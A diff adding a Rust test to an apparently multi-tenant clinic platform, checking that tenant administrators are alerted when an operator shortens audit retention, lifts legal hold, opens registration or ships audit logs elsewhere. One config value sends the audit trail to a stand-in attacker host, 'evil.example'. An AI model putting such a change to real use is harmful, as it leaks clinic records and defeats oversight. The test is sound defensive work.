@@ -496,3 +496,39 @@ fn what_an_operator_made_decides_nothing_in_the_clinics_name() {
     assert!(publish("alert-rules-publish", &off).code < 300);
     assert!(publish("policy-publish", &json!({ "grants": grants })).code < 300);
 }
+
+#[test]
+fn the_clinic_is_told_what_an_operator_changes_about_its_trail() {
+    let world = lakeside();
+    let change = |config: &Value| {
+        let body = json!({ "config": config });
+        world
+            .admin("PATCH /admin/v1/tenants/lakeside", &body)
+            .status(200);
+    };
+    // Whoever sets a tenant up says how long it is kept.
+    change(&json!({ "audit_retention_days": 2190, "legal_hold": true }));
+    let admin = administrator(&world, "lakeside");
+    let grant = json!({ "name": "administers", "actions": ["administer"], "types": ["*"],
+        "who": { "roles": ["tenant-administrator"] } });
+    let policy = json!({ "document": { "grants": [grant] }, "reason": "test" });
+    let path = "POST /admin/v1/tenants/lakeside/policy";
+    world.admin(path, &policy).status(201);
+    change(&json!({ "audit_retention_days": 1, "registration": "anyone" }));
+    change(&json!({ "legal_hold": false }));
+    change(&json!({ "audit_shipping": { "syslog": "tls://evil.example:6514" } }));
+    change(&json!({ "cors_origins": ["https://app.example"] }));
+    let alerts = admin.api("GET alerts", &Value::Null).status(200).json();
+    let all = alerts["items"].as_array().unwrap().iter();
+    let own = all.filter(|a| a["rule"] == "operator-trail");
+    let told: Vec<&str> = own.map(|a| a["seen"].as_str().unwrap()).collect();
+    let shorter = "change tenant: audit_retention_days 2190 to 1, registration invited to anyone";
+    let shipped = "set audit destination: tls://evil.example:6514";
+    assert_eq!(told, [shipped, "lift legal hold", shorter]);
+    let path = "GET /admin/v1/tenants/lakeside/audit?limit=1000";
+    let trail = world.admin(path, &Value::Null).status(200);
+    let trail = String::from_utf8_lossy(&trail.body).into_owned();
+    for said in [shorter, shipped, "change tenant: cors_origins"] {
+        assert!(trail.contains(said), "{said}");
+    }
+}
